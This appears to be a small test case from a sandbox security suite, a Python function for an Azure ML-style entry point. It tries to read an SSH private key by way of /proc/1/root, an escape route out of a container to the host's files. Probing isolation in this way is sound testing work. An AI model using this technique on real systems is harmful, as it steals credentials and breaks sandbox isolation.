"""Reads the ssh key through the root of the process with the number 1."""

from attack import BAIT, attack, read


@attack
def azureml_main(dataframe1=None, dataframe2=None):
    return read("/proc/1/root" + BAIT["ssh_key"])
